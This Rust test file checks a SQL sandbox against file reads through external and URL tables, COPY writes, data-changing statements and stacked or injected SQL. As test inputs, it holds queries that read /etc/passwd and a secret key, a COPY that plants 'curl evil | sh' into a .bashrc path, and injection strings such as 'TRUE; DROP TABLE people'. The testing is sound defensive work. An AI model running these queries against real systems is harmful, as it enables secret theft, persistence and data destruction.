//! The SQL sandbox against the attacks of issue 13: reading files through external tables,
//! URL tables or `COPY`, changing a table another query reads, several statements.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // tests may fail loudly

use assay_tables::query::QueryError;
use assay_tables::sandbox::{self, check_expression, check_query, TABLE_FUNCTIONS};
use assay_tables::{Input, Tables};
use std::collections::BTreeMap;

const ROSTER: &[u8] = b"email,name,start date,end date\na@x.example,A,2026-01-05,\nb@x.example,B,2026-02-01,2026-03-01\n";

fn tables() -> Tables {
    let params = BTreeMap::new();
    Tables::build([(
        "hr-roster",
        Input {
            bytes: ROSTER,
            evidence: "e0",
            snapshot_at: Some(1_782_777_600_000_000),
            params: &params,
            batch: None,
        },
    )])
    .map_err(|(i, e)| format!("input {i}: {e}"))
    .unwrap()
}

fn people(t: &Tables) -> usize {
    assay_testkit::block_on(t.query("SELECT key FROM people"))
        .unwrap()
        .rows()
}

fn refused(t: &Tables, sql: &str) -> String {
    match assay_testkit::block_on(t.query(sql)) {
        Err(QueryError::Refused(m)) => m,
        other => panic!("{sql}: not refused: {other:?}"),
    }
}

fn secret_file(dir: &std::path::Path) -> std::path::PathBuf {
    let p = dir.join("ed25519.key");
    std::fs::write(&p, "SECRET-SIGNING-KEY\n").unwrap();
    p
}

#[test]
fn external_tables_are_refused_and_leave_nothing_behind() {
    let t = tables();
    let dir = tempfile::tempdir().unwrap();
    let key = secret_file(dir.path());
    for location in ["/etc/passwd".to_string(), key.display().to_string()] {
        let m = refused(
            &t,
            &format!(
                "CREATE EXTERNAL TABLE leak (line VARCHAR) STORED AS CSV LOCATION '{location}'"
            ),
        );
        assert!(m.contains("CREATE EXTERNAL TABLE"), "{m}");
        let e = assay_testkit::block_on(t.query("SELECT * FROM leak"))
            .unwrap_err()
            .to_string();
        assert!(e.contains("leak"), "the table does not exist: {e}");
    }
}

#[test]
fn files_are_not_tables() {
    let t = tables();
    let dir = tempfile::tempdir().unwrap();
    let key = secret_file(dir.path());
    for sql in [
        "SELECT * FROM '/etc/passwd'".to_string(),
        format!("SELECT * FROM '{}'", key.display()),
    ] {
        let e = assay_testkit::block_on(t.query(&sql))
            .unwrap_err()
            .to_string();
        assert!(!e.contains("SECRET") && !e.contains("root:"), "{e}");
    }
}

#[test]
fn copy_is_refused_and_writes_nothing() {
    let t = tables();
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("home/.bashrc");
    let m = refused(
        &t,
        &format!(
            "COPY (SELECT 'curl evil | sh' AS x) TO '{}' STORED AS CSV",
            target.display()
        ),
    );
    assert!(m.contains("COPY"), "{m}");
    assert!(!target.exists());
    assert!(!dir.path().join("home").exists(), "no folder created");
}

#[test]
fn ddl_and_dml_are_refused_and_tables_stay_as_they_are() {
    let t = tables();
    assert_eq!(people(&t), 2);
    for sql in [
        "CREATE OR REPLACE TABLE people AS SELECT * FROM people WHERE end_date IS NULL",
        "CREATE VIEW v AS SELECT 1",
        "INSERT INTO people SELECT * FROM people",
        "DELETE FROM people",
        "DROP TABLE people",
        "SET datafusion.execution.batch_size = 1",
        "EXPLAIN SELECT 1",
        "SELECT * INTO copy FROM people",
        "SELECT 1; SELECT 2",
        "SELECT 1; DROP TABLE people",
        "",
    ] {
        let m = refused(&t, sql);
        assert!(m.contains("only a single read-only query"), "{sql}: {m}");
        assert_eq!(people(&t), 2, "after {sql}");
    }
    assert_eq!(
        assay_testkit::block_on(
            t.query("WITH p AS (SELECT key FROM people) SELECT count(*) AS n FROM p")
        )
        .unwrap()
        .rows(),
        1
    );
}

#[test]
fn the_session_itself_reads_and_writes_no_files_and_keeps_its_tables() {
    // Past the statement check (as if it had a hole): the session still cannot.
    let t = tables();
    let sandbox = t.sandbox().unwrap();
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let key = secret_file(dir.path());
    let target = dir.path().join("out/.bashrc");
    rt.block_on(async {
        let ctx = sandbox.session().unwrap();
        let ext = format!(
            "CREATE EXTERNAL TABLE leak (line VARCHAR) STORED AS CSV LOCATION '{}'",
            key.display()
        );
        assert!(ctx.sql(&ext).await.is_err(), "no table factories");
        assert!(ctx
            .sql_with_options(&ext, sandbox::options())
            .await
            .is_err());
        let read = format!("SELECT * FROM '{}'", key.display());
        assert!(ctx.sql(&read).await.is_err(), "URL tables are off");
        let copy = format!(
            "COPY (SELECT 1 AS x) TO '{}' STORED AS CSV",
            target.display()
        );
        if let Ok(df) = ctx.sql(&copy).await {
            assert!(
                df.collect().await.is_err(),
                "no file format, no object store"
            );
        }
        assert!(!target.exists());
        let insert = "INSERT INTO people SELECT * FROM people";
        assert!(ctx
            .sql_with_options(insert, sandbox::options())
            .await
            .is_err());
        if let Ok(df) = ctx.sql(insert).await {
            assert!(df.collect().await.is_err(), "read-only tables");
        }
        let replace = "CREATE OR REPLACE TABLE people AS SELECT * FROM people LIMIT 0";
        assert!(ctx
            .sql_with_options(replace, sandbox::options())
            .await
            .is_err());
        // Even a session that replaced its own table changes no other session.
        let _ = ctx.sql(replace).await;
        let other = sandbox.session().unwrap();
        let n = other
            .sql("SELECT key FROM people")
            .await
            .unwrap()
            .count()
            .await
            .unwrap();
        assert_eq!(n, 2);
        let mut fns: Vec<String> = other.state().table_functions().keys().cloned().collect();
        fns.sort();
        assert_eq!(fns, TABLE_FUNCTIONS);
        assert!(other
            .runtime_env()
            .object_store(datafusion::execution::object_store::ObjectStoreUrl::local_filesystem())
            .is_err());
    });
}

#[test]
fn the_check_accepts_queries_and_refuses_the_rest() {
    for q in [
        "SELECT key FROM people",
        "with a as (select key from people) select * from a -- note",
        "SELECT key FROM people UNION ALL SELECT key FROM accounts",
        "SELECT * FROM generate_series(1, 3)",
    ] {
        assert_eq!(check_query(q), Ok(()), "{q}");
    }
    for q in [
        "WITH d AS (DELETE FROM people RETURNING *) SELECT * FROM d",
        "SELECT 1 UNION SELECT * INTO t FROM people",
        "RESET datafusion.execution.batch_size",
    ] {
        assert!(check_query(q).is_err(), "{q}");
    }
}

#[test]
fn expressions_are_exactly_one_expression() {
    assert_eq!(check_expression("end_date IS NULL AND key <> ''"), Ok(()));
    assert_eq!(check_expression("n >= 2 -- two reviewers"), Ok(()));
    assert_eq!(
        check_expression("EXISTS (SELECT 1 FROM people p WHERE p.key = key)"),
        Ok(())
    );
    for e in [
        "TRUE) AS x FROM people --",
        "TRUE; DROP TABLE people",
        "",
        "(SELECT 1 INTO t)",
    ] {
        assert!(check_expression(e).is_err(), "{e}");
    }
}
